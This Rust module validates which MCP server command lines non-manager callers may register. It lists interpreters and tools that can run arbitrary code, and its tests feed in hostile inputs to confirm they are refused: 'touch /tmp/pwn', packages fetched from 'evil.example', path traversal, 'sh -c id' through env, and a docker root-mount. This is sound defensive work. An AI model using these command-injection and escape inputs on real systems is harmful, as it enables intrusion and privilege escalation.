//! Command lines that callers may register: `MCP_ALLOWED_COMMANDS`.
//!
//! A template is matched word by word. The rules are narrow on purpose, for a program that runs what its arguments say
//! (an interpreter, a package runner, a container engine) makes every loose rule a way around the list:
//!
//! - A word must be equal. A `*` at its end stands for more of the same word: letters, digits and `._@+-`, so that
//!   neither another registry, an address nor an alias (`name@npm:other`) fits a package's name.
//! - A word that begins with `/` is a path. `/opt/mcp/*` is every program below that folder, `/opt/mcp/run*` those
//!   beside `run`. Only text is compared: a path with `.`, `..` or an empty part is refused, a symbolic link is not
//!   followed. A known interpreter below a folder must be named in full, or a virtual environment there would allow
//!   everything.
//! - Arguments beyond the template are refused, unless its last word is `*` alone (any arguments), or it names a
//!   package for `npx` or `uvx` right after the program or after `-y`: arguments after a package's name go to the
//!   server.

use std::{fmt, str::FromStr};

/// The command lines that callers without `mcp:manage` may register.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub enum AllowedCommands {
    /// None.
    #[default]
    ManagersOnly,
    /// Any.
    Everything,
    /// Those that match a template, such as `npx -y @scope/name*` or `/opt/mcp/*`.
    Templates(Vec<String>),
}

/// Programs that run what their arguments name: `*` in their place, or right after them, would allow everything.
const INTERPRETERS: &str = "apptainer ash bash buildah bun bundle bunx busybox bwrap cargo chroot chrt composer conda corepack csh \
    dash dbus-run-session deno direnv docker doas dotnet elixir env erl escript fakeroot firejail fish flatpak go gosu \
    gradle groovy hatch ionice java julia kotlin ksh lua lxc mamba micromamba mise mix mvn nerdctl nice nix nix-shell \
    node nodejs nohup npm npx nsenter numactl pdm perl php pip pipenv pipx pixi pnpm pnpx podman poetry prlimit pwsh \
    pypy python rake rlwrap rscript ruby runuser rye sbt scala script setarch setpriv setsid sh singularity stack \
    stdbuf su su-exec sudo swift systemd-run taskset tclsh time timeout tini toybox tsx ts-node unbuffer unshare uv \
    uvx watch wine xargs xvfb-run yarn zsh";

/// Programs of which any argument may make them run another, whatever stands before it.
const TOOLS: &str = "at awk batch crontab docker-compose ed emacs ex expect ffmpeg find gawk gdb git helm kubectl less lldb \
    ltrace m4 make man mawk more mysql nvim parallel perf psql rsync scp screen sed sftp socat sqlite3 ssh strace \
    systemctl tar tmux valgrind vi vim";

/// Words of theirs right after which they name what they run.
const SUBCOMMANDS: [&str; 3] = ["dlx", "run", "x"];

/// Options of theirs that take no value, or what they run as their value.
const SWITCHES: [&str; 16] = [
    "-y",
    "--yes",
    "-q",
    "--quiet",
    "-i",
    "-t",
    "-it",
    "-ti",
    "--rm",
    "--init",
    "-u",
    "-B",
    "-I",
    "-m",
    "-jar",
    "--no-warnings",
];

/// Ends of the names of scripts and archives.
const SCRIPTS: [&str; 12] = [".js", ".mjs", ".cjs", ".ts", ".py", ".jar", ".sh", ".rb", ".php", ".pl", ".lua", ".dll"];

/// Package runners that hand everything after the package's name to the package.
const RUNNERS: [&str; 2] = ["npx", "uvx"];

/// Options of theirs that take no value, so that the next word is the package.
const RUNNER_SWITCHES: [&str; 4] = ["-y", "--yes", "-q", "--quiet"];

impl AllowedCommands {
    /// True when a caller without `mcp:manage` may register this command line.
    #[must_use]
    pub(crate) fn allows(&self, command: &str, args: &[String]) -> bool {
        match self {
            Self::ManagersOnly => false,
            Self::Everything => true,
            Self::Templates(templates) => templates.iter().any(|template| fits(template, command, args)),
        }
    }
}

impl FromStr for AllowedCommands {
    type Err = String;

    /// Reads `*`, or templates separated by commas; an empty text allows managers only.
    fn from_str(text: &str) -> Result<Self, String> {
        let templates: Vec<_> = text.split(',').map(str::trim).filter(|template| !template.is_empty()).collect();
        match templates.as_slice() {
            [] => Ok(Self::ManagersOnly),
            ["*"] => Ok(Self::Everything),
            templates => {
                templates.iter().try_for_each(|template| check(template))?;
                Ok(Self::Templates(templates.iter().map(|template| (*template).to_owned()).collect()))
            }
        }
    }
}

impl fmt::Display for AllowedCommands {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::ManagersOnly => f.write_str("managers only"),
            Self::Everything => f.write_str("*"),
            Self::Templates(templates) => f.write_str(&templates.join(",")),
        }
    }
}

/// Refuses templates that cannot mean what they seem to.
fn check(template: &str) -> Result<(), String> {
    let mut words = template.split_whitespace();
    let program = words.next().unwrap_or_default();
    let fault = |problem: &str| Err(format!("the template {template:?} {problem}"));
    if template.split_whitespace().any(|word| word.trim_end_matches('*').contains('*') || word.ends_with("**")) {
        return fault("has a * before the end of a word");
    }
    if program.starts_with('*') || program == "/*" {
        return fault("names no program; * as the only template allows everything");
    }
    if program.contains('/') && (!program.starts_with('/') || !is_plain(program.trim_end_matches(['/', '*']))) {
        return fault("must name its program by an absolute path without . and .., or by its name alone");
    }
    if is_interpreter(program) && !names_a_target(program, &words.collect::<Vec<_>>()) {
        return fault(
            "leaves open what it runs: before a last * stands a path, a script or a package; \
             * as the only template allows everything",
        );
    }
    Ok(())
}

/// True when the words after an interpreter leave open neither the program it runs nor one of its options.
fn names_a_target(program: &str, words: &[&str]) -> bool {
    let is_vague = |word: &&str| {
        word.ends_with('*') && (word.starts_with('-') || !word.contains(|c: char| c.is_ascii_alphanumeric()))
    };
    let (is_open, fixed) = match words.split_last() {
        Some((&"*", fixed)) => (true, fixed),
        Some(_) | None => (false, words),
    };
    !fixed.iter().any(is_vague) && (!is_open || hands_on(program, fixed) || ends_with_target(program, fixed))
}

/// True when `words` end with what an interpreter runs, so that all that follows goes to that: a path, a script, or
/// what stands where a program is named.
fn ends_with_target(program: &str, words: &[&str]) -> bool {
    let Some((target, before)) = words.split_last() else { return false };
    let before = before.last().copied().unwrap_or_default();
    let is_named = SUBCOMMANDS.contains(&before) || ["-m", "-jar"].contains(&before);
    let is_file = target.contains('/') || SCRIPTS.iter().any(|end| target.ends_with(end));
    // The word after any other option is that option's value.
    let is_value = before.starts_with('-') && !before.contains('=') && !SWITCHES.contains(&before);
    (is_named || is_file)
        && !is_value
        && !target.starts_with('-')
        && !target.contains('=')
        // `mcp/time` is an image, `/usr/bin/time` a program.
        && (target.contains('/') && !target.starts_with('/') || !is_interpreter(target))
        && !is_known(TOOLS, program)
}

/// True when a command line fits a template.
fn fits(template: &str, command: &str, args: &[String]) -> bool {
    let mut words: Vec<_> = template.split_whitespace().collect();
    let open = words.len() > 1 && words.last() == Some(&"*");
    if open {
        words.pop();
    }
    let Some((program, words)) = words.split_first() else { return false };
    let extra_allowed = open || hands_on(program, words);
    let enough = if extra_allowed { args.len() >= words.len() } else { args.len() == words.len() };
    enough && program_fits(program, command) && words.iter().zip(args).all(|(word, arg)| word_fits(word, arg))
}

/// True when `words` end with the package that a runner passes further arguments to.
fn hands_on(program: &str, words: &[&str]) -> bool {
    let Some((package, options)) = words.split_last() else { return false };
    RUNNERS.contains(&program) && !package.starts_with('-') && options.iter().all(|word| RUNNER_SWITCHES.contains(word))
}

fn program_fits(word: &str, command: &str) -> bool {
    if word == command {
        return true;
    }
    word.ends_with('*') && word_fits(word, command) && !is_interpreter(command)
}

fn word_fits(word: &str, arg: &str) -> bool {
    let Some(stem) = word.strip_suffix('*') else { return word == arg };
    let Some(tail) = arg.strip_prefix(stem) else { return false };
    if !word.starts_with('/') {
        return tail.chars().all(|c| c.is_ascii_alphanumeric() || "._@+-".contains(c));
    }
    if stem.ends_with('/') { !tail.is_empty() && is_plain(arg) } else { !tail.contains('/') && is_plain(arg) }
}

/// True when no part of an absolute path leads elsewhere (`.`, `..` or an empty part).
fn is_plain(path: &str) -> bool {
    path.split('/').skip(1).all(|part| !matches!(part, "" | "." | ".."))
}

/// True when the program at `path` runs what its arguments say.
fn is_interpreter(path: &str) -> bool {
    is_known(INTERPRETERS, path) || is_known(TOOLS, path)
}

/// True when `list` has the program at `path`, whatever version its name ends with.
fn is_known(list: &str, path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or_default().to_ascii_lowercase();
    let bare = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-');
    list.split_whitespace().any(|known| known == name || known == bare)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allows(templates: &str, line: &[&str]) -> bool {
        let args: Vec<String> = line[1..].iter().map(|word| (*word).to_owned()).collect();
        templates.parse::<AllowedCommands>().unwrap().allows(line[0], &args)
    }

    #[test]
    fn unset_allows_nothing_and_a_star_allows_all() {
        assert!(!AllowedCommands::default().allows("/opt/mcp/server", &[]));
        assert!(!allows("", &["true"]) && !allows(" , ", &["true"]));
        assert!(allows("*", &["sh", "-c", "true"]));
    }

    #[test]
    fn a_package_template_allows_its_scope_and_arguments_of_the_server() {
        let template = "npx -y @scope/name*";
        for line in [
            &["npx", "-y", "@scope/name"][..],
            &["npx", "-y", "@scope/name-files@1.2.3", "/srv/data"],
            &["npx", "-y", "@scope/name@latest", "--root", "/srv"],
        ] {
            assert!(allows(template, line), "{line:?}");
        }
        assert!(allows("uvx mcp-server-git", &["uvx", "mcp-server-git", "--repository", "/srv/r"]));
    }

    #[test]
    fn a_package_template_is_no_way_to_run_anything_else() {
        let template = "npx -y @scope/name*";
        for line in [
            &["npx", "-c", "touch /tmp/pwn"][..],
            &["npx", "-y", "-c", "touch /tmp/pwn"],
            &["npx", "-y", "--node-options=--require=/tmp/x.js", "@scope/name"],
            &["npx", "--node-options=--require=/tmp/x.js", "-y", "@scope/name"],
            &["npx", "-y", "-p", "evil", "@scope/name"],
            &["npx", "-y", "@scope/name@npm:evil"],
            &["npx", "-y", "@scope/name@https://evil.example/x.tgz"],
            &["npx", "-y", "@scope/name/../../evil"],
            &["npx", "-y", "@scope/name -c touch"],
            &["npx", "-y", "evil"],
            &["npx", "-y"],
            &["npx"],
            &["/tmp/npx", "-y", "@scope/name"],
            &["./npx", "-y", "@scope/name"],
        ] {
            assert!(!allows(template, line), "{line:?}");
        }
    }

    #[test]
    fn an_interpreter_alone_allows_nothing_but_itself() {
        for program in ["node", "python3", "sh", "npx", "env", "docker", "/usr/bin/python3.11"] {
            assert!(allows(program, &[program]), "{program}");
            assert!(!allows(program, &[program, "anything"]), "{program}");
        }
        for line in [
            &["python3", "-c", "import os"][..],
            &["node", "-e", "1"],
            &["env", "-S", "sh -c id"],
            &["docker", "run", "-v", "/:/h", "alpine"],
        ] {
            assert!(!allows("python3,node,env,docker", line), "{line:?}");
        }
    }

    #[test]
    fn a_folder_allows_the_programs_below_it_and_nothing_beside() {
        let folder = "/opt/mcp/*";
        assert!(allows(folder, &["/opt/mcp/server"]) && allows(folder, &["/opt/mcp/deep/er/server"]));
        for program in [
            "/opt/mcp/",
            "/opt/mcp",
            "/opt/mcp/../sh",
            "/opt/mcp/x/../../sh",
            "/opt/mcp/./x",
            "/opt/mcp//x",
            "/opt/mcpx/y",
            "opt/mcp/x",
            "/opt/mcp/venv/bin/python3",
            "/opt/mcp/venv/bin/python3.12",
            "/opt/mcp/node_modules/.bin/tsx",
        ] {
            assert!(!allows(folder, &[program]), "{program}");
        }
    }

    #[test]
    fn arguments_of_a_program_need_a_separate_star() {
        assert!(!allows("/opt/mcp/*", &["/opt/mcp/server", "--any"]));
        assert!(allows("/opt/mcp/* *", &["/opt/mcp/server", "--any", "thing"]));
        assert!(allows("/opt/mcp/server --root /srv/*", &["/opt/mcp/server", "--root", "/srv/a/b"]));
        assert!(!allows("/opt/mcp/server --root /srv/*", &["/opt/mcp/server", "--root", "/srv/../etc"]));
        assert!(!allows("/opt/mcp/server --root /srv/*", &["/opt/mcp/server", "--root"]));
        assert!(allows("docker run -i --rm mcp/time *", &["docker", "run", "-i", "--rm", "mcp/time", "UTC"]));
    }

    #[test]
    fn a_star_inside_a_word_stays_inside_that_word_and_folder() {
        assert!(allows("/opt/mcp/run*", &["/opt/mcp/run-files"]));
        assert!(
            !allows("/opt/mcp/run*", &["/opt/mcp/run/../../sh"]) && !allows("/opt/mcp/run*", &["/opt/mcp/run/deeper"])
        );
    }

    #[test]
    fn templates_that_would_allow_everything_by_accident_are_refused() {
        for wrong in [
            "npx *",
            "npx -y *",
            "python3 *",
            "env *",
            "/usr/bin/docker *",
            "*,node",
            "* -y x",
            "/*",
            "a*b",
            "./x",
            "/opt/../x",
            "x **",
            "timeout 60 *",
            "env A=1 *",
            "env A=/x *",
            "nice -n 10 *",
            "xargs -n 1 *",
            "python3 -W ignore *",
            "python3 -W ignore /*",
            "timeout 60 /usr/bin/python3 *",
            "sudo -u mcp *",
            "docker run -v /srv:/srv *",
            "docker run --name x *",
            "docker exec box *",
            "git -C /srv *",
            "git *",
            "find /srv *",
            "make *",
            "taskset 1 *",
            "conda run -n base *",
        ] {
            assert!(wrong.parse::<AllowedCommands>().is_err(), "{wrong}");
        }
    }

    #[test]
    fn templates_that_name_what_is_run_may_leave_its_arguments_open() {
        for right in [
            "java -jar x.jar *",
            "sh /opt/x.sh *",
            "python3 -u /opt/x.py *",
            "python3 -m mcp_server_time *",
            "node --max-old-space-size=512 /opt/x.js *",
            "timeout 60 /opt/mcp/server *",
            "docker run -i --rm mcp/time *",
            "uvx mcp-server-git *",
            "npx -y @scope/name *",
            "pnpm dlx @scope/name *",
            "uv run server.py *",
            "uv --directory /srv run server.py *",
            "/opt/mcp/server *",
            "git",
        ] {
            assert!(right.parse::<AllowedCommands>().is_ok(), "{right}");
        }
    }
}
